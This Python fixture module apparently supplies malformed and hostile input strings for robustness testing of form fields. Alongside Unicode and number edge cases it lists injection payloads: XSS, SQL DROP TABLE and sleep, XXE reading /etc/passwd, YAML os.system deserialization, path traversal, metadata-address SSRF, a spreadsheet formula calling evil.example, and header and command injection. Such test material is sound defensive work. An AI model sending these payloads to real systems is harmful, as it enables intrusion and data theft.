"""Words that break programs, a few of every class of trouble, and what to send for a field of a given kind.

`TROUBLE_WORDS` may name a file with more: a JSON list of texts.
"""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Final

SCRIPT: Final = "\"'><script>document.title='broken in'</script>"

WORDS: Final[Mapping[str, str]] = {
    "a NUL": "前\x00后",
    "control characters": "".join(chr(code) for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85)),
    "line ends of every kind": "一\r\n二\r三\n四\x0b五\u2028六\u2029七",
    "spaces that are none": "\u3000\u00a0\u2003\u202f\ufeff",
    "nothing that can be seen": "看\u200b不\u200c见\u200d的\u2060字\u00ad",
    "turned round": "发票\u202egnp.exe\u202c\u2067אבג\u2069",
    "from right to left": "שלום مرحبا 你好 ١٢٣",
    "a tower of marks": "Z" + "\u0310\u0321\u035b\u0489" * 40 + "塔",
    "faces made of several": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇨🇳 ☺️ 1️⃣",
    "far planes": "𠮷野家 𝔘𝔫𝔦 \U0010fffd \ue000 \ufffe \U000e0041",
    "halves of a pair": "\\ud800 \\udfff %ED%A0%80 &#xD800;",
    "broken bytes": "\ufffd\ufffd Ã¤Â½Â\xa0 锟斤拷烫烫烫",
    "reserved words": "null",
    "no value": "undefined NaN None nil Infinity true false constructor __proto__ hasOwnProperty",
    "a device": "CON PRN AUX NUL COM1 LPT1",
    "a script": SCRIPT,
    "a script without tags": 'javascript:alert(1)//" autofocus onfocus=alert(1) x="',
    "a picture that acts": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "the end of a field": "</textarea></title></style><form action=//evil.example><input name=password>",
    "a comment left open": "<!-- <![CDATA[ ]]> -->",
    "references": "&lt;b&gt; &amp;lt; &#60;script&#62; &nbsp;",
    "marks of templates": "{{ 7*7 }} {% load static %} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] {case} {due} {0.__class__}",
    "marks of formats": "%s%s%n %(name)s %d {0} {name!r} $(id) `id` ; id | id && id",
    "SQL": "'; DROP TABLE store_case; -- ' OR '1'='1 \\'; SELECT pg_sleep(9);--",
    "a pattern": "%_%%__\\ ((((a+)+)+)+)$ [z-a] .* ^",
    "a search": "a & | ! b:* <-> 'x' :A ((",
    "JSON": '{"a": [1e999, "\\u0000"], "$ne": null}',
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": "!!python/object/apply:os.system ['id']\n- &a [*a, *a]\n? : -",
    "a path": "../../../../etc/passwd\\..\\..\\boot.ini%2e%2e%2f/dev/null",
    "an address": "http://169.254.169.254/latest file:///etc/passwd //evil.example \\\\evil\\share",
    "a formula": '=HYPERLINK("http://evil.example","按")\t+1+cmd|\' /C calc\'!A0 @SUM(1) -2+3',
    "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a line of a log": "x\n2026-01-01T00:00:00Z [error] all is lost \x1b[31m\x1b]0;title\x07",
    "a number in a strange form": "１２３",
    "other digits": "١٢٣",
    "a fraction": "½",
    "an exponent": "1e309",
    "a hexadecimal": "0x7fffffff",
    "less than nothing": "-9223372036854775809",
    "a huge number": "9" * 400,
    "a number that is none": "1,2,3.4.5",
    "the end of days": "9999-12-31T23:59",
    "the first of days": "0001-01-01T00:00",
    "a day that never was": "2026-02-30T25:61",
    "a time of elsewhere": "2026-06-01T00:00+23:59",
    "a foreign row": "0" * 32,
    "a slot of nobody": f"cs_specialist:{'f' * 32}",
    "quotes": "'\"`´‘’“”«»「」",
    "longer than a column": "长" * 300,
    "longer than a text": "长" * 20_001,
}


def words() -> dict[str, str]:
    """The words by what is wrong with them, with those of the file that somebody brought."""
    brought = os.environ.get("TROUBLE_WORDS")
    more = json.loads(Path(brought).read_text(encoding="utf-8")) if brought else []
    return {**WORDS, **{f"brought {number}": text for number, text in enumerate(more)}}


def is_sendable(word: str) -> bool:
    """Whether a browser can send it: half a pair is no character."""
    return not any("\ud800" <= sign <= "\udfff" for sign in word)
